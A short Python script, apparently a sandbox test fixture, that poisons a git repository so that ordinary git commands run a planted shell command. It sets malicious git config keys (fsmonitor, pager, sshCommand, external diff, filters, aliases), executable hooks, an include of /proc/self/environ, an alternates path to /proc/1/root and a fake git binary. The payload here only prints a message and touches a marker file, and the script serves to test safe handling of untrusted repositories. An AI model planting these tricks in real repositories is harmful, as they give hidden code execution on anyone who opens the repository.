"""Turns git against whoever looks at the repository: helpers, hooks, filters, links out of it, alternates."""

import os

os.chdir("/sandbox/repo")
trap = "sh -c 'echo BROKE OUT: git ran a trap; touch /sandbox/trapped; sleep 100'"
config = f"""[core]
    fsmonitor = {trap}
    pager = {trap}
    sshCommand = {trap}
    hooksPath = /sandbox/hooks
    worktree = /
    attributesFile = /sandbox/attributes
[diff]
    external = {trap}
[filter "trap"]
    clean = {trap}
    process = {trap}
    required = true
[include]
    path = /proc/self/environ
[alias]
    diff = !{trap}
"""
os.makedirs("/sandbox/hooks", exist_ok=True)
for name in ("pre-commit", "post-index-change", "reference-transaction", "post-checkout", "fsmonitor-watchman"):
    with open(f"/sandbox/hooks/{name}", "w") as file:
        file.write("#!/bin/sh\n" + trap)
    os.chmod(f"/sandbox/hooks/{name}", 0o755)
for path in (".git/config", os.path.expanduser("~/.gitconfig"), ".gitmodules"):
    with open(path, "w") as file:
        file.write(config)
for path in (".gitattributes", "/sandbox/attributes", ".git/info/attributes"):
    os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
    with open(path, "w") as file:
        file.write("* filter=trap diff=trap text eol=crlf working-tree-encoding=UTF-16\n")
os.makedirs(".git/objects/info", exist_ok=True)
with open(".git/objects/info/alternates", "w") as file:
    file.write("/proc/1/root\n")
os.makedirs(os.path.expanduser("~/bin"), exist_ok=True)
with open(os.path.expanduser("~/bin/git"), "w") as file:
    file.write("#!/bin/sh\n" + trap)
with open("a.txt", "a") as file:
    file.write("honest\n")
print("trapped", flush=True)
